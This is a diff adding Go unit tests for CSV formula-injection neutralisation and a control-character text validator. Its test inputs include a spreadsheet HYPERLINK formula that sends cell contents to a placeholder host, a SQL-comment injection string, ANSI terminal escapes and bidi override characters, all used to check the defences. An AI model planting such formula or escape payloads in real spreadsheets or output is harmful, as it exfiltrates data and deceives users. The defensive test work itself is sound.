@@ -123,3 +123,54 @@ func TestReadCSVRefusesOversizedFiles(t *testing.T) {
 		t.Fatalf("a CSV over the limit: %v", err)
 	}
 }
+
+func TestCSVCellNeutralisesFormulas(t *testing.T) {
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://x/?"&A1,"click")`: `'=HYPERLINK("http://x/?"&A1,"click")`,
+		"+SUM(1+1)":                           "'+SUM(1+1)",
+		"-2+3":                                "'-2+3",
+		"@A1":                                 "'@A1",
+		"\tx":                                 "'\tx",
+		"\rx":                                 "'\rx",
+		"-":                                   "'-",
+		"-.5":                                 "'-.5",
+		"+5":                                  "'+5",
+		"-12":                                 "-12",
+		"-0.5":                                "-0.5",
+		"30.200000":                           "30.200000",
+		"土鸡蛋 =1":                              "土鸡蛋 =1",
+		"":                                    "",
+		"R01":                                 "R01",
+	} {
+		if got := CSVCell(in); got != want {
+			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
+		}
+	}
+	var b strings.Builder
+	w := NewCSVWriter(&b)
+	if err := w.Write([]string{"=1+1", "-3", `say "hi"`}); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Flush(); err != nil || b.String() != "'=1+1,-3,\"say \"\"hi\"\"\"\n" {
+		t.Fatalf("wrote %q (%v)", b.String(), err)
+	}
+}
+
+func TestTextRuleRefusesControlCharacters(t *testing.T) {
+	for _, s := range []string{"a\rb", "a\nb", "a\tb", "\x1b[31mred", "bell\x07", "del\x7f", "csi\u009b2J", "line\u2028sep", "para\u2029sep", "bad\xffutf8"} {
+		if Printable(s, 100) || OptionalPrintable(s, 100) {
+			t.Errorf("%q passes the text rule", s)
+		}
+		if err := CheckOptionalText("address", s, 100); err == nil || err.(*Error).Field != "address" {
+			t.Errorf("CheckOptionalText(%q) = %v", s, err)
+		}
+	}
+	for _, s := range []string{"张三丰", "👩‍👩‍👧 李家", "\u202eabc\u202c 覆盖", `=1+1 '; --`} {
+		if !Printable(s, 100) {
+			t.Errorf("%q fails the text rule", s)
+		}
+	}
+	if Printable(" ", 100) || !OptionalPrintable("", 100) || Printable("abc", 2) {
+		t.Error("blank, empty or length handled wrongly")
+	}
+}
